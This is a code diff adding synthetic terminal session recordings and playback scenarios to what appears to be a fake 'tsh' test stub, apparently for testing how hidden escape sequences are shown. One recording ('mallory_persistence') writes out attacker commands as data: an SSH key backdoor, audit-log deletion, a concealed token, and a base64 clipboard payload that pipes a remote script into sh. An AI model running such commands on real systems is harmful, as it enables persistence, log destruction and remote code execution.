@@ -45,7 +45,7 @@ TCTL_ONLY_SCENARIOS = {
     "search-unknown-service", "search-old-tctl", "search-unknown-command",
     "download-die", "download-hang", "summary-old-tctl", "summary-denied", "summary-hang",
 }
-TSH_ONLY_SCENARIOS = {"no-proxy"}
+TSH_ONLY_SCENARIOS = {"no-proxy", "play-slow", "play-hang", "play-flood"}
 
 AUTH_ERRORS = {
     "not-logged-in": "Not logged in.",
@@ -1124,16 +1124,127 @@ def tsh_play(p, scenario):
     if desktop:
         # text writes the data of print events only, and a desktop recording has none.
         return Result("")
-    lines = [
-        "Last login: Wed Jun  3 20:11:58 2026 from 10.0.0.7",
-        "$ \x1b[1mwhoami\x1b[0m",
-        "demo",
-        "$ uptime",
-        " 20:12:07 up 12 days,  3:04,  1 user,  load average: 0.08, 0.03, 0.01",
-        "$ exit",
-        "logout",
-    ]
-    return Result("\r\n".join(lines) + "\r\n")
+    if fmt == "text" and scenario == "play-slow":
+        time.sleep(float(env("FAKE_SLOW_SECS", "2")))
+    if fmt == "text" and scenario == "play-hang":
+        # A recording that never ends: the first bytes, then nothing, forever.
+        write_all(1, recording_bytes(sid)[:200])
+        write_pidfile([os.getpid()])
+        sleep_forever()
+    if fmt == "text" and scenario == "play-flood":
+        return Result(flood_bytes())
+    return Result(recording_bytes(sid))
+
+
+# --- What `tsh play --format text` prints: the raw bytes the user's terminal received ------
+
+def bash_prompt(user, host, cwd="~"):
+    """Debian's coloured bash prompt, which also sets the window title with OSC 0."""
+    sign = "#" if user == "root" else "$"
+    return (f"\x1b]0;{user}@{host}: {cwd}\x07"
+            f"\x1b[01;32m{user}@{host}\x1b[00m:\x1b[01;34m{cwd}\x1b[00m{sign} ")
+
+
+def typed(cmd):
+    """A command as the shell echoed it, and Enter (CR LF)."""
+    return cmd + "\r\n"
+
+
+def erased(text):
+    """Typed, then erased with backspace before Enter: the shell echoes BS SP BS each time."""
+    return text + "\b \b" * len(text)
+
+
+LOGIN = "Last login: Wed Jun  3 20:11:58 2026 from 10.0.0.7\r\n"
+
+
+def recording_bytes(sid):
+    story = RECORDINGS.get(sid)
+    if story is None:
+        lines = [
+            "Last login: Wed Jun  3 20:11:58 2026 from 10.0.0.7",
+            "$ \x1b[1mwhoami\x1b[0m",
+            "demo",
+            "$ uptime",
+            " 20:12:07 up 12 days,  3:04,  1 user,  load average: 0.08, 0.03, 0.01",
+            "$ exit",
+            "logout",
+        ]
+        return ("\r\n".join(lines) + "\r\n").encode()
+    return story().encode("utf-8")
+
+
+def alice_sudo():
+    p, r = bash_prompt("alice", "web-01"), bash_prompt("root", "web-01")
+    return (LOGIN + p + typed("uptime")
+            + " 20:12:07 up 12 days,  3:04,  1 user,  load average: 0.08, 0.03, 0.01\r\n"
+            + p + typed("sudo su -") + "[sudo] password for alice: \r\n"
+            + r + typed("visudo")
+            # visudo's editor on the alternate screen, then back.
+            + "\x1b[?1049h\x1b[H\x1b[2J# /etc/sudoers\r\nalice ALL=(ALL) NOPASSWD:ALL\r\n"
+            + "\x1b[?1049l"
+            + r + typed("systemctl restart nginx") + r + typed("exit") + "logout\r\n"
+            + p + typed("exit") + "logout\r\n")
+
+
+def mallory_persistence():
+    p = bash_prompt("root", "web-03")
+    token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
+    return (LOGIN + p
+            + typed("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBad mallory@kali' >> /root/.ssh/authorized_keys")
+            + p + erased("rm -rf /var/log/audit") + typed("ls /var/log")
+            + "apt  audit  auth.log  btmp  journal  syslog\r\n"
+            # A token printed concealed (SGR 8): invisible on the screen, there in the bytes.
+            + p + typed("printf '\\e[8m%s\\e[0m\\n' \"$GH_TOKEN\"")
+            + f"\x1b[8m{token}\x1b[0m\r\n"
+            # A clipboard write (OSC 52) and a retitled window (OSC 2).
+            + p + typed("copy-to-clipboard")
+            + "\x1b]52;c;Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjUwL2kuc2ggfCBzaA==\x07"
+            + "\x1b]2;vim README.md\x07"
+            # Overwritten with a carriage return: "sudo" then "done" over it.
+            + p + typed("./progress") + "sudo chattr +i /etc/passwd\rdone                      \r\n"
+            + p + typed("history -c") + p + typed("exit") + "logout\r\n")
+
+
+def carol_export():
+    q = "orders=> "
+    return ("psql (15.6)\r\nType \"help\" for help.\r\n\r\n"
+            + q + typed("SELECT count(*) FROM customers;")
+            + " count \r\n-------\r\n 48213\r\n(1 row)\r\n\r\n"
+            + q + typed("COPY customers TO STDOUT WITH CSV;")
+            + "1,Ada Lovelace,ada@example.com\r\n2,Alan Turing,alan@example.com\r\n"
+            + q + typed("\\q"))
+
+
+def bob_pod():
+    p = "\x1b[1;34mroot@api-7f9c8d-x2x4q\x1b[0m:/app# "
+    return (p + typed("env | grep -i secret")
+            + "STRIPE_SECRET_KEY=sk_live_51H8xEXAMPLE\r\nDB_SECRET=hunter2\r\n"
+            + p + typed("exit") + "exit\r\n")
+
+
+RECORDINGS = {
+    "3f2a9c1e-5b7d-4e8a-9c0f-1a2b3c4d5e6f": alice_sudo,
+    "d1e2f3a4-b5c6-4d7e-8f9a-0b1c2d3e4f5a": mallory_persistence,
+    "b7e4c2a1-9d3f-4b6e-a8c5-2f1e0d9c8b7a": carol_export,
+    "8c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f": bob_pod,
+}
+
+
+def flood_bytes():
+    """A build log of coloured lines, FAKE_FLOOD_MB megabytes (default 5), one match near the
+    end."""
+    size = int(float(env("FAKE_FLOOD_MB", "5")) * 1024 * 1024)
+    line = "\x1b[32m[  OK  ]\x1b[0m Compiling \x1b[1mcrate-%06d\x1b[0m v0.1.0 (/build)\r\n"
+    out, n = [], 0
+    total = 0
+    while total < size:
+        chunk = line % n
+        out.append(chunk)
+        total += len(chunk)
+        n += 1
+    out.append("$ sudo tail /var/log/auth.log\r\n")
+    return "".join(out).encode()
 
 
 def tsh_config_aliases():
